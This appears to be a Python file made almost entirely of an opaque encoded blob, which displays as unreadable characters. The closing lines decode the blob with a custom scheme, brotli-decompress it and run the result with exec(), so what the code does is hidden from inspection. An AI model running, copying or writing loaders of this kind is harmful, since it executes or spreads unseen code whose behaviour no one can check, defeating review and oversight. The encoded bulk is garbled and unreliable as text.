ܥ	+sۼ0Mxzy͵2r|q8B1.BdD{AEPCWUѪ)}*1.ZrFF?a*מV)4 ZySW;=io*eFE	%^KM0I"!l1%pc9LIZ]5s41D(VBk^F~qЁrN"U`Ta\@hZڗ8o  <- )zIOқ~(%]ކ`_6{>PJB/RD(]jG!	UЏ:!U(OKY7MgX*'x[fA*ymIc.g5ةâNR'a%hI8jpcxFӄZt9
\YQ0ԥs7`q=T+-$//ǮYUIӧ \/S?٦gK@B3gSE%T-ɑL@.lLe$Z)Q{Y!Y+mՒ$ҴFE4eґK6\H͖uƤLf3$r^+xJ	ˢyF&cp&,OK?\.Yھ>ߗ6?;̺Voziݹ(3C#*׊9ЙʶʆdA}x};ʵbS`/8wvrw#0$Q.(u;ֱL3s6~}M)_է'tz#1^u$1tۤcRs*K,#L#)7zyO1}wz`rR&qf´ٙ a(ABr!)݃/(սz9/(`σe"(SƯX!Ai0[SdՍ1&Bn;C;	s8n	yG|2ϩ$gxmr+?2s<;C{Xy?<1H3|$+fg3ųv3|ǚ̦63]ȄYL+!{Ė#lBu\y·k¡')+ЗW_fh3/:|HPu|	g¯\1nz59aŊ{m~QcaKwqzn6jVݻ$IͻFJ&k7zgA1wɬ}*3 c! ޏ2ߏVqvGp+Q&	עN(+4ݸW~c˾$KȭȭM%F-' Ұ6:(Ƌ+j$v7|wkK^ɽΖ4X/֗۹}=֘q*wiA;'7%N8zX+J.2ݺƈfleN_[u3Yv-JH3iռ`׆+ΈFKAdŻExFnXJDr/#;^Uט0PI?S܁V}B
D{ceg"(hgqFf5@j'hUx&sBhE$UWBJ*AXm äc(	=)8kTi[ץŁHӆ*#ɸȔ""$āއ{K|;|Ԥ͹=!nS|ݟ?>ng!&x_[	3T%OӁ^XTqVR~tl"Р-ҘT CpkTtX0dʐtL֏dco7RRU2Χܲ^*ʲ[vb.;g
1%
9`>ײuڍp@rB>[8iК\?ml*p0RZb|emE/}L[W^FƝnf4P}T?k#o%rSn;H{b?||hqtӪNnz[f6ڏT߬Ӟi5gHqrZ]P2XUC!&`$j V.CgiH ldTDD<zA)U #Ikox*a"QNn5r8kvn6Tif~d?AFoF2fϨ3zn\?'օ7CF}?Ka]F=+ʗLz&Im`/;?4V];yqKf/1Iv\YgPf<ΥIRUs">ˤʝ8)^u_)?{MkJ\H)-ߐ_vqMˌ+`ƗIސ`sM-[6Wsi^I#׸&<Dȯ65WA\_Ԓl2qsyp"ÄBL2j]һEzՖo, ܌FM5 ƷpNhond_ٞY$ͬ9e+PiFɅi\w~҃_}^6E$V8',
LӴ]Dv-ClI/ćsX¿_rCvm
^)ְ:,gZСiP\-C@WRXw.|ǋ[2\̭0#]-:3$=qD45N޸
ڃb}&z_*MƼx5Aal۾lޜ4Q_=[wRqx7/WtߠJ̨F;ieTժC1\+m&DwSiяP/8og\şaOH(k]F>)>?b(ax7@?pݯo8ܔD7!X˱<6\1KLv03=apL[!mɠap"LC4ݧ`,8ׂ̩V'FMtJ@Tf
Qvn]Ϗ|$tP@9ʕ̫lwΩuupw%s$֝XlٷݩVT%:x'(S
6+|,Mۛ%ѱݜ-UyQAEߣww3U#TݛÕկF}[<'XZ^[qpgķ(13|@HU]NQkj;#32SNHC&'r4Rۑ@y6)"Σɷi5ko^)W۬Yj7(0m<eJ0ԗ4Lsfb[N`P=O3|yց8sHkN^ƤmM#GEVHN#>`c4>Ԓa<C$z+1gfPD%mÄc	Q ohc"R+zzo8{ɑ~[bp$~-6+UfL)kyS:VvYdu-}$
OSyFߓ6hP*f[GiS5wE'2ߤ$/6a]yTnSCCt_#gbriw.oi&aͧͲۄwz<XS><BǙl'+K2ԯmFgцˆ{mݟL{Zv}JPdn+Ŵ;˂^EzKfȓ9L
VtRQg1|V(АMaTg*PyD9=l&1Ҩ^wM>O<~wU;ƃGJ[ڪBB@E(3OEjI}Fy۷)^Y09=^0'BZy: ^dޡ3-|1cW_t*څ&Jvt&NkB%;h]pFIYjjU%տTԷٳWDW\c|6 \_0@P\Hpp
#rFWJpd3
	Fbicw!Nsʚ؝aψߎBMT.Hw4Q`oK~ͣ6ȭ_0`{md[Rs-f\!=;1/kƔȴff3XONB$v,LZW͛Zdted]^Ox7Dm~V׳`4܏k,tЎo
9$ʟUsZh@D۬}D-k.b=~n!HՀɚr]M3oFCƟr] M[GT)LbKBլpIk4=;+|8s[NFB]xL8iM9ux
fvJDfwM>>yY-?FˇK	z\bKnE!ia2Je~*F3̨*/<13gHvL5s,ߜCK<͖$F̄G1LQR(PpZ,Փ^4ŜزQتiŪz*``!!JևO\Sʽi 75|h`Vb&L>Jj~wź|ʎ0,_CY+؆\$*˺I<ٓ&mNK0QP5|Xcyr_)ǿEh~\gL3F6zL6%o߷ڱHx~#LJ$̾4܃HB;s̞2)iYf\
ޓ?,ιZ3[uj*;`CҞc1qZ9+PCzF՟_J!ȱ/uRŘ)&WBNQͪBKeGQ1o+AW-pT_X(H-JܦAѱMQ÷:-+-Ɵ=N5scFiЪȘbQѡ tR7R\\*d26ot ЄM7)epQ2ǡݼۄYJZTӮCUaߌ10$`oDdG#GXfӂe*.$4þ}
̎-ikظmӺvY\5
YMshƛyns~b7<R/J5&E
 &ONt#^ЛEn/ʕ]/˧8#;Zu]z̜|*k*˚jWmӫy)
,ϼ0O:M0N_hա8<y@-m([N+hdOtŕb4}>V!o$=ʻyֈv.hI^<݋lLx2'an$hNhKc79-10ܽ=]j)9meeh6/jn3>ٔSwH4!(_1S3~P͝{*+_ҫ܎RSν,go.#Ws1?p^ҘoMl߱'Ȗv9ȕeݐ˿`HH'hpѶ6RK4xďaƛ{GbWɅ:	Ƙ&	-LܾuDIs`+ACΛGQ{rY1SV߽ʬLmK*c8we9-E@˥[NۙJ(	}ϧzz{ɣ\zDvC0Ek%&
|Ӱ֔uʫo;=G#O<RōjVƟY\tg+jHS8kQF$6ILB *&ZϿj0Ҭm_=@EikW24KS|?ݺ|rXwd_Sst\:/Iko	nUc/^]d28؂gΦ\|9!^BݔF@OҌsCU:5^Ц*1-RG̟,^2	LȻ#bZ+s.|6݀J[r6jlj#S9Omujqo80@lu&aȾkI=@4(S^'5dmX>6eߗ@rI-ĝ*OݨE5Fr>V/^ IvcluKê_mwl_ҦՎPs
qM5m)Q -OŦmm!ɸͪIpw<`pѯ6MN;3P/YC6ߤ0x׻_ڳ&zjWFPjNG3BƟ@B=	Q2/p(pKY:5`Ƙ<I
E,{ëʉߕ[>@`ؔv\'TF_.J[7]?.N(/ml!]0sP)fCCԔ*
T m_lMMi8#*֣؆%[X٩^^I˻/ַ.bɸYs97m*,"e;ĈWz,_{eRK_B<N0_J{Tu&[zi#3/7߹r&Jc\ǥl0:%1fу.9cr#'VV9
D,2u_rۨȾsp*=Մ؀Ɖ3oQ/tAѺ?6QŇqi,NfXiQEa0Thr
fGD
oĴ>XIK:F	qcA!pf$>LuݟAzܻkW
?PrFtm'	0kɩVRNɿԆwWoauT	ۺzCK78~ 8S/\ O]v<tv/!i"."މ$Ÿ<*v,ur ҙCq|;uS٥B<(ګ?lM{--3ϺK\Kۗ GJ:-ڎIL@kǴѽ/tnɫPNr6eձ]D]~rsWGsI^oF`"B,osmt۩8ǒ~tҟf̔N·H)R}qMq4]Єc}UaamU֙ѱR=>8͓$$$en|c-y+ЋRP}[	W
tvvl\9
*	CU4uדqNlۓҠ_gtfbK$2Ӓ8c;1.v5L@KS?ڂz2+Hw57+_U2թ|y@KsK!%B^A7}cǞ}oݿL=T'rP;1OlrgYq0ܱFUrlM1ڥH[iMdo2kyFO);Qʠ&+ي:٠6Ɔ};n%#5U1FUdJ`ιrMا>Q:].aY&[vMX6CL~rʑT%=94Zj1~ՒUSG@o#c!n8^U+}8HP*J	 YՏ'D&ЛJΐ1whסO<QsŵŒnUK21,)ϑBS $X6!Prf8RJAr~-w~X7@=5o=YDk"Ns݀(36*)>uKy֣qܫ^,`%Q!kI-bk<h:x/GnRvV~6|F)26w,WA$f9G<NcJ0o	!4jU%VT(]n0zw} ܍ga&V.è9?RpT/(ú.0žۺ@<Q
v+SrNs%~5zJ8B#-oEz[NݔiډE17-{ZlR?%ڕU*ڢԾD:f:h*	UIóXZ;wRqA.nEI=`gQӳwS`?ƣQG5sd?LLNl8Ҝ>;"ߕ88̡ȦHۆ"RtM4Ј	u*-C::آXUo?0N~ɣUX~BH#@xl=U%2hr#FĨ]ěGiKɯ%0V;J>ǋ\O`yXŲٜ*
ܜZ4DeI=yϠm2?`-9-FR_kx@=IdC
h-4n--E:L׆Y(L^Mփu)Zb͂SOԛ٠<q&ȸm_qFI1[֊Ñq=@|J~xBsnmg*xZmҔSެùbL(51Vuł>@0%oPhжRIk^{\(VΙ$|72bJ#l[L).ܣ1YVVeXXX
0.t;&wBJE~l	4*^o>x;Ҩ3ĺ4T?&?wXC
>{˥@A\Fz ʤ6u:kZ9ȐfȶƺTР,{PpҦK}x#-dk5_'nEZΗy&+Sq@.\J]:|6a~jXxD>Ơ#ݘ]_x̜A+P1X;Dn!RQ-Ր78[[xs˪C*UxNźkZF@%NzXԩl +]Ֆm>Q\b_D|`ͺ6hMX*3;"C+r0^uUYoK-qH:y܁2"Jy'!$qBV2(nZ7Kǋ-3ĥвY~zMȲY͆IՅ(.L3A
Wx B5eNfaS4ĉi**Pˉ6^4-`VT]=5U6~NfJ<iz.i&[R;;Zt;MA̚LT!l-C3Q<D_вڴ/g&TF-G=pe~UCA8("ӘlRr
.bVcJ;5
LPEB<W<%TLK~:7c7a٤*T`HVU~έ!_if2"G\ؘ&m)Yʵ/cZu\a%59[kk	%P*fkJzNzɆPl\,!-f itbVr+oL?*U}Xn1METk>W:j3٬5`QҢB?Ow2 /QIuGA WZx4uilWpͨ8zS7͡5^gRf+>j4Xo+U0R7U#kXvk"AאRݮk:c=cSY9ir:oBSzɗH?29Y?iF.jI,L+k.goO? 3^ǇTn݆(&&fU٠<C6׹THhMqKΊnuj	uУy1,D2gOk{_QNr߭SK&s.^\~mgSBʌ٩!^	$hEJ06_wqJjhʘZ"l֯OVdɉgc'qmq*ĀU.y['#aQNTz֐@Фt<o<
If2̌r9zE_Yev4Wp޲9k\^ԓĹ$+ʭ9'EQӖFs&ņtRk`sb}T*A,7{ROo^1BNV+*إ)
%!0l@
C(wm5E$tz@C=12Ø0	#yݞݯ)ɣ:UCa7کr5?kޙQR(dPӏ.Bߞ>[Eմ^v|\ѫ/jliP%ĤlhdJ
ԱQxFك.G_͙QP]uTƵ~m(AC07>gCԕ81Hy^r$p̲1b͎KP 'eA[WC'.#v(5p4ݺ[RC5x0ʉ,PzIZwKqf3s|.8iLQ]'oC:[gwyQOڄC"H>rЏ.XO7(Vf`y&ƢA(ب{rޠ%RmHA1zcD%ʷ|8gw4ܯ*Ո_fmҰЊA-yI̱p^ח04|@]mOo2>Yi]`n1HJtϋPVr!OTԫk>Lxv<<0λ@"OLr͒bFUB5CVrǇo(X/wGy.؆d߱`fgm5STEZMJՎU7ٛH@F#Ewrz{nW[;#nkڎ=q)_d2N]P-.̄uXhXtx]de<IQoB>@zoNerʦ`ʉ{dlJPy̙6mC|MzNb*ޗJ[p,6-aח!);,V˽^oʯgEIG013Pbs<~zĹ+b\DI^j@#m#wqQUNd epzS-Md١_7<Eыђn^ğ]NA`r{vZGo٭'H]JR}*	!Gޜ$R+@9Qݱ`s*	/} ӻ% ;4E/-UxG=/E-@l4R =/=l^Π#'73bVL<_$^GьN >G"XfH$3aZkKc0`ܺݶ>Λ$q^<ľc͘ޥ[jUqx>'*3kpO#k#Cdݣ͊Ưq=,޻,EԼ?Xbi8<|ԅyJx4ʓ vr
}?Ƹv#tt	 B+Ëŗ|B7Q8bJǤ=/߯Ulg0jb=ľH6)4+m\Q;Kc-Yě$^Nآ%dNۘT%Ԥ=ŭs#TTdD	/x"GNg+ܥ"hqs[*3O[ҥwzmM!lͅ"dBUJm lJkSٹ8PļFZQx^ٓ_\ZZ{ʙ=
@-P>$5Nl8̗ǎ7Fop"p2/H`[uS2Pһ7Mҽ_b5,^-A*w}O,jO!
}A[ga`e6w9Lп.;	!rtb2-u^ŭUKzW/OZIGX?,ٹX"9Ҁ+=@%ؿփh))#ؑABj*&+;NH1]gu#a[)ŉ]<hSh@?(vx0}SzOeh3^"kaƵPMܗY lsAǎ?|$O p@݋\g̢fÁ!ݜr)pE8g{K,KỊg_==@t}DUؔbe:I"|M&+Cd1b\fnKN܉;+]ԓ3V*('u]̚~|X\fRE3^d޽r@	[_9SGߖȡ_%%-HZ#6'H?zLAi)]=vC<ɜ>ɟYz\GS2Y?.dFMxخΑ4gjCuqJj̼bS/Ѵ.֣T #v#Ȼƀ׻U_aO&v1w=AFŞAU0crBRIX?MoqYEpNAsy;#LdpƤYHDlDֹ>l?W;u@e-]8M1ٔ}v[ō+b(Vrr-i~mnشL:Fuq?Ϧ)܌Q$Yvŷ?e: Şx6TԘz:ۛq+7.<  TU!ǎzړşs-Gv@MI	5;Dx+zaqgkeנʱhÐ'a/N=āTcX#,"^ݸրA`'A*s;ai0[L/'HƆ؍^49ݩA'B" Z	+G:Bf2tQ	>^6 /%ޝЬ*{OsqYDIDldnտʜOv]\@!mwaOp*urXI?!>Q,7MXHPNsJ+m7hh6#ɫo4 x}s}iN47R̦'`,W\PxJJPT4Gӈ[~yr߷ |Kn9&1!YC,"S%z	c}^ŝE?̞͛PBIl$LcF`ri]1/YXВgSЙm5\)2y̴g@Ì$EӐCt88=2ķgFmw
ǊEk7?/qX+K~HM,psWZذq?LGsEČhz2Z[Y$͋+ūBǤh6P 4(Eau_;Ĩܯʒ;kB"e^Qf!@"efjW)>х4l4:L1չ¼Ut|pk*|ߢ"+M`jZI!AWZh
E0
m͘ΞcTx.?gKVDqɈNrφ	&m)KZp'׶.W-Q͡Pׂ\t92Jօmf&{'ւ%})i_G.fc$[QZn/vAhBW}&5\I_JyY}͜CMmt1/(@&QR3кeo|3ˉ~\5:߅&_^ȝIf|#pJzP`b*I}fZ$R7-<cǀZ 1v+Nm_CPǆQJ7)jlZӖ}|נJފ۷8[)~Uڗ@3kb"Y|jgC^UK[M)
ؚU1"}J~Uc̕td˕DY$aPܦ~̧́ǆԃBQӾ}Xφ_ַӖ'4oڂ2f8~Wݦy] F~!]b__Ǆ׉y:L/2&N,*ӝ+łKǲG#^kr78X˜^)v2C}@@]4
RGX~u++ET̢pl+I$%cCq<xهP[t֔|M_Qkd;%pTsP'8gx@r[^4vyːP_88MM¿^foe+VUiӖq߿6P3^rCM
?μ@3W͠GHToѷjKJ\RyRjݝSod6'I,|ǅw Q#sbIU0~N;A&e1B~h%ɦŪ1{d&uWʫ`׫i̷tJʉ~{b$^ʕXS>h_s~!fa@jhoG:j|#ؚd,|ca
R-/zҡ;#J'tKj6<ۘ9<հPqn$"ZA+vԙvX1tcǏ<CR A"Y׌wbzT/_{Ӵo.=p(^rCݵb0wM!5*_ʾ;,ȏvxߕss^/oȨbB]riI(>FZ&|wyHqQSă=D-}@~y	j{'ƛiS		VFC̞(%aܓblHχZf8C+^۔Q*<k@*tٍ		fM8/vl&"s!':8lڰ[[=d/Cf*2VOF@ X[*Qh"-DN%uYiWqN=\/Nic&f,A!zXR~6HܥZo̉#@#+m$^}ðN,aѱ="\4p¯_:3rƅٽ Q`тX1mYXeҡ?CcmѨC_wxcDtLvF#Tď_Qd_ɨD^Ju$]qǅ'.?$I=FŅwh5ЕPc{U'Mp>a]lԭ(:+7JuӃ4vYӦ$p	r%&7BQƢ+l -;gΣ1#LAӔ./6̺GĂDмWZR3lRM>O	[WkH\'A<c9ݏ˓Ԛ7(ybPzݩ͝"۱_JoәҚ5~:s0gGy>?VE0E"d<WՌ?F6En(MA`)~1cjxjƻ0PLXfT(&-WN%0ɖӅ1lFfU44rn'`
!peTܾƗgLG@d:'U33u+_qٲ4TO$kYɑ2A.6l
y҈!!>hٕO-Aʺ'>q!TTUۍv\A-vĺM-e%%[֗ϳ@R\8~D
EĀ$rFoXg$4uU9&y:(9$u)p%Y*2΢ڼuk,(,ԪX,	`nbJ)r\ӅXTDeߵ%jWσ`[ohFy5@Sx
/ڢ28fq}yMp^m0\NrV6 Y2yXX6P*-lrlU2ϱHtx|5x%gjZDz4qo6zI:݁3fbQrʊz|E3Vc̫"#OfSB '<jR`[[iPܽ:Ȉ޲~G2wT%q#)\w_Tզ5%J9@"
mPgu#h@k@](Р
Xzĉ#044p:iy-G#kHa*g}$ơ}נިF6'mI*Itٓw2h":ȇ!dI!~h`ZZ
=[ סɺŢʹX3F]b;R'|62Be<ЗX&ijIgc8*<=LއX|xT=qCH}F(ӦJ|chF3**f(RP%f&Ҭj%&N PCXB~1x@e7~(tGD\Ɔ-J>8c߭a]v:ˇ,"\zQ+iӓrɞ:rE9j}F#*/_- }ֵf^(J-B5lVI/{(Ƅd0) ]dLzK$M)F޽͎Ƈ "P׼JX&V{BLYT
6M_@޼0dBRB0ޝ_C(VcoٺxQ\G>hnX_,qF9uZb,c
4&j7No*+?ͭ_w4{G+$ba-Y-\oF*W`NaZ	dyhÎi%ݝ %K:9
)E$N@>}z2)&p@N$۽uNfڢEs7~C~Kj\Cba)Tmqixf*[_:yL(I0ҬE9FT;vB]:N1Y_o+R̳)Bxbbɴ,B<r_ZD1T_j!2Qۄ5~*OB҄|ӦQSĄGcHJ7?ZBk:;u~w$kPy^psۦ^NS7xؓ	l3S`0΂QڊH.ު{;rU|i>0ҌSNdW\KZӲy=œakWm](>tA0ugDZbBJ*~bޢot0	M8rZ
лx$wr=fp# ?`?V!X^5jCEZxZ<߬TJ(ERSm 5o>6VȱQ52J$X.UKG\{=Үb#a2
nP{1ŽJڕTguJv-*0<ʞ%@	S0*k=1GLf:ng]RCrng<dQJ\(MǓa[F&Fq9;pG'g)OpKlCܖ*e"8d%ݒ[U,^3 (Bo;o7Ry˽Mэ\Sz1ֹPj ǄP1yQɇε@(2_A(^eQaXy߫ȘvCKnOwÌEoݵ͉^9,ߐAt8I@cjafńHD+Nحho۾.F!ϐ3[w[[bg''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25333)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
